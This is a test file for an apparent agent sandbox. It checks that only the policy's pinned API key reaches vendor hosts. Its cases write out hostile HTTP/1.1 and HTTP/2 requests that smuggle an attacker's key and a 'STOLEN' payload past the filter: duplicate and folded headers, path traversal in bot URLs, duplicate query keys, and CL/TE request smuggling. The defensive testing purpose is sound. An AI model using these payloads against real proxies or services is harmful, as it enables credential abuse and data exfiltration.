/**
 * `mode: pin` as the wire sees it: requests with the policy's key arrive; those with another key, in each place that a
 * key can stand and by each trick that HTTP has for a second one, leave no connection, or on one that was there before
 * no byte of a body. Judges: the packets between host and internet, and what the vendors' servers were asked.
 */
import t, { type Test } from 'tap'
import { services } from '../lab/addresses.js'
import { createLab, type Lab } from '../lab/lab.js'
import type { Isolation } from './faults-kit.js'

const cwd = '/srv/work'
const policyPath = '/etc/agentjail/policies/pinned.yaml'
/** The same form for all: one attacker's key fits every place. */
const key = '12345:policy0123456789AbCdEfGh'
const attacker = '66666:attack0123456789AbCdEfGh'

const policy = `version: 1
name: pinned
network:
  ipv6: false
  allow:
    - { host: api.openai.com, inspect: http, credential: bearer }
    - { host: api.anthropic.com, inspect: http, credential: own }
    - { host: api.telegram.org, inspect: http, credential: path }
    - { host: github.com, inspect: http, credential: basic }
    - { host: plain.example, inspect: http, credential: query }
credentials:
  bearer: { from: "env:OWNER", mode: pin, in: "header:authorization" }
  own: { from: "env:OWNER", mode: pin, in: "header:x-api-key" }
  path: { from: "env:OWNER", mode: pin, in: "path:bot" }
  basic: { from: "env:OWNER", mode: pin, in: basic }
  query: { from: "env:OWNER", mode: pin, in: "query:key" }
`

interface Case {
  readonly title: string
  readonly host: string
  /** HTTP/1.1, as it goes over the wire; \`BODY\` stands for much to steal. */
  readonly text?: string
  /** HTTP/2 fields, with the same body. */
  readonly h2?: Readonly<Record<string, string>>
  /** Requests of it that must arrive: their number. */
  readonly good?: number
}

const post = (host: string, path: string, lines: readonly string[], body = 'BODY') =>
  `POST ${path} HTTP/1.1\r\nHost: ${host}\r\n${lines.map((line) => `${line}\r\n`).join('')}` +
  `Content-Length: ${body === 'BODY' ? 'LENGTH' : body.length}\r\n\r\n${body}`
const basic = (secret: string) =>
  `Authorization: Basic ${Buffer.from(`u:${secret}`).toString('base64')}`

const openai = 'api.openai.com'
const bearer = (secret: string) => `Authorization: Bearer ${secret}`
const at = (host: string, path: string, lines: readonly string[] = []) =>
  post(host, path, lines, 'ok')

/** One place after the other: the right key, the attacker's, both. */
const places: readonly Case[] = [
  { title: 'header', host: openai, text: at(openai, '/v1/a', [bearer(key)]), good: 1 },
  { title: "header, attacker's", host: openai, text: post(openai, '/v1/a', [bearer(attacker)]) },
  { title: 'header, none', host: openai, text: post(openai, '/v1/a', []) },
  ...(['api.anthropic.com'] as const).flatMap((host): Case[] => [
    { title: 'own header', host, text: at(host, '/v1/a', [`x-api-key: ${key}`]), good: 1 },
    {
      title: "own header, attacker's",
      host,
      text: post(host, '/v1/a', [`X-Api-Key: ${attacker}`]),
    },
    {
      title: "own header, attacker's bearer beside it",
      host,
      text: post(host, '/v1/a', [`x-api-key: ${key}`, bearer(attacker)]),
    },
  ]),
  ...(['api.telegram.org'] as const).flatMap((host): Case[] => [
    { title: 'path', host, text: at(host, `/bot${key}/getMe`), good: 1 },
    { title: "path, attacker's", host, text: post(host, `/bot${attacker}/sendMessage`, []) },
    {
      title: "path, up and into the attacker's",
      host,
      text: post(host, `/bot${key}/../bot${attacker}/sendMessage`, []),
    },
    {
      title: "path, an encoded slash and the attacker's",
      host,
      text: post(host, `/bot${key}%2f..%2fbot${attacker}/sendMessage`, []),
    },
  ]),
  ...(['github.com'] as const).flatMap((host): Case[] => [
    { title: 'basic', host, text: at(host, '/a/b/git-upload-pack', [basic(key)]), good: 1 },
    {
      title: "basic, attacker's",
      host,
      text: post(host, '/a/b/git-receive-pack', [basic(attacker)]),
    },
  ]),
  ...(['plain.example'] as const).flatMap((host): Case[] => [
    { title: 'query', host, text: at(host, `/x?key=${key}`), good: 1 },
    { title: "query, attacker's", host, text: post(host, `/x?key=${attacker}`, []) },
    { title: 'query, both', host, text: post(host, `/x?key=${key}&%6Bey=${attacker}`, []) },
  ]),
]

const smuggled = post(openai, '/v1/stolen', [bearer(attacker)])
const tricks: readonly Case[] = [
  ...[
    ['a second header', [bearer(key), bearer(attacker)]],
    ['mixed case', [bearer(key), `aUtHoRiZaTiOn: Bearer ${attacker}`]],
    ['another header', [bearer(key), `X-Api-Key: ${attacker}`]],
    ['a cookie', [bearer(key), `Cookie: session=${attacker}`]],
    ['a field folded', ['Authorization: Bearer', ` ${attacker}`]],
    ['a fold behind the right one', [bearer(key), ` , Bearer ${attacker}`]],
    ['a space before the colon', [bearer(key), `Authorization : Bearer ${attacker}`]],
    ['a bare return', [`${bearer(key)}\rAuthorization: Bearer ${attacker}`]],
    ['the query', [bearer(key)], `/v1/a?api_key=${attacker}`],
  ].map(([title, lines, path]) => ({
    title: String(title),
    host: openai,
    text: post(openai, typeof path === 'string' ? path : '/v1/a', lines as string[]),
  })),
  {
    title: 'CL and TE',
    host: openai,
    text: `POST /v1/a HTTP/1.1\r\nHost: ${openai}\r\n${bearer(key)}\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
  },
  {
    title: 'TE and an unknown coding',
    host: openai,
    text: `POST /v1/a HTTP/1.1\r\nHost: ${openai}\r\n${bearer(key)}\r\nTransfer-Encoding: chunked, x\r\n\r\n0\r\n\r\n${smuggled}`,
  },
  {
    title: 'two lengths',
    host: openai,
    text: `POST /v1/a HTTP/1.1\r\nHost: ${openai}\r\n${bearer(key)}\r\nContent-Length: 0\r\nContent-Length: LENGTH\r\n\r\nBODY`,
  },
  {
    title: 'pipelined behind a right one',
    host: openai,
    text: at(openai, '/v1/a', [bearer(key)]) + smuggled,
    good: 1,
  },
  {
    title: 'behind the end of a chunked body',
    host: openai,
    text: `POST /v1/a HTTP/1.1\r\nHost: ${openai}\r\n${bearer(key)}\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n${smuggled}`,
    good: 1,
  },
  { title: "HTTP/2, attacker's", host: openai, h2: { authorization: `Bearer ${attacker}` } },
  {
    title: 'HTTP/2, another header',
    host: openai,
    h2: { authorization: `Bearer ${key}`, 'x-api-key': attacker },
  },
  {
    title: 'HTTP/2, another authority',
    host: openai,
    h2: { authorization: `Bearer ${key}`, ':authority': 'api.anthropic.com' },
  },
]

/** In the jail: sends each case on a connection of its own, and ends when all were answered or closed. */
const client = String.raw`
import http2 from 'node:http2'
import tls from 'node:tls'
import { readFileSync } from 'node:fs'
const body = 'STOLEN'.repeat(40_000)
for (const { host, text, h2, title } of JSON.parse(readFileSync('cases.json', 'utf8'))) {
  const options = { host, port: 443, servername: host, rejectUnauthorized: false, ALPNProtocols: [h2 ? 'h2' : 'http/1.1'] }
  await new Promise((done) => {
    setTimeout(done, 10_000).unref()
    if (h2 === undefined) {
      const socket = tls.connect(options)
      let quiet
      let heard = ''
      const end = () => { clearTimeout(quiet); socket.destroy(); console.log(title + ': ' + (heard.match(/HTTP\/1.1 \d+/g) ?? ['closed']).join(' ')); done() }
      socket.on('error', end)
      socket.on('close', end)
      socket.on('data', (chunk) => { heard += chunk; clearTimeout(quiet); quiet = setTimeout(end, 400) })
      socket.write(text.replaceAll('LENGTH', String(body.length)).replaceAll('BODY', body), 'latin1')
    } else {
      const session = http2.connect('https://' + host, { ...options, createConnection: () => tls.connect(options) })
      session.on('error', done)
      const stream = session.request({ ':method': 'POST', ':path': '/v1/a', ...h2 })
      stream.on('error', () => undefined)
      stream.on('response', (head) => console.log(title + ': h2 ' + head[':status']))
      stream.on('close', () => { session.destroy(); done() })
      stream.resume()
      stream.end(body)
    }
  })
}
`

const judge = async (t: Test, lab: Lab, isolation: Isolation, cases: readonly Case[]) => {
  lab.writeFile(`${cwd}/cases.json`, JSON.stringify(cases))
  await lab.capture.clear()
  const before = lab.internet.served.length
  const { code, stdout, stderr } = await lab.agentjail(
    [
      ...['run', '-q', '--policy', policyPath, '--isolation', isolation, '--'],
      ...['node', 'client.mjs'],
    ],
    { cwd, env: { OWNER: key }, timeout: 240_000 },
  )
  t.equal(code, 0, stderr)
  await lab.sync()
  const served = lab.internet.served.slice(before)
  const good = cases.flatMap(({ host, good = 0 }) => Array<string>(good).fill(host))
  t.same(
    served.map(({ host }) => host).sort(),
    good.sort(),
    `the requests with the policy's key arrive, and no other:\n${stdout}`,
  )
  const asked = JSON.stringify([served, lab.internet.evil.received])
  t.notMatch(asked, attacker, "nothing with the attacker's key")
  t.notMatch(asked, 'STOLEN')
  const packets = await lab.capture.packets(({ proto }) => proto === 'tcp')
  for (const { v4 } of Object.values(services)) {
    const toIt = packets.filter(({ dst }) => dst === v4)
    const hosts = cases.filter(({ host }) =>
      Object.values(services).some(
        (each) => each.v4 === v4 && (each.names as readonly string[]).includes(host),
      ),
    )
    const meant = hosts.reduce((sum, { good = 0 }) => sum + good, 0)
    const syns = toIt.filter(({ flags }) => flags.syn).length
    const bytes = toIt.reduce((sum, { length }) => sum + length, 0)
    // A right one may have the connection that the one before it left.
    const isFitting = meant === 0 ? syns === 0 : syns >= 1 && syns <= meant
    t.ok(isFitting, `${v4}: ${syns} connections for ${meant} right requests, none for the others`)
    // A TLS handshake and a head; a body that was to be stolen has 240,000.
    t.ok(bytes <= meant * 8_000, `${v4}: ${bytes} bytes for ${meant} right requests`)
  }
}

/** Milliseconds: bounds a hang, judges no speed. */
const timeout = 300_000
t.setTimeout(4 * timeout)
t.test('only the key of the policy is on the wire', { timeout: 4 * timeout }, async (t) => {
  const lab = await createLab()
  t.teardown(() => lab.close())
  lab.writeFile(policyPath, policy)
  lab.writeFile(`${cwd}/client.mjs`, client)
  await t.test('in each place', { timeout }, (t) => judge(t, lab, 'namespace', places))
  await t.test('smuggled', { timeout }, (t) => judge(t, lab, 'namespace', tricks))
  await t.test('in uid isolation', { timeout }, (t) =>
    judge(t, lab, 'uid', [...places.slice(0, 2), ...tricks.slice(-6)]),
  )
})
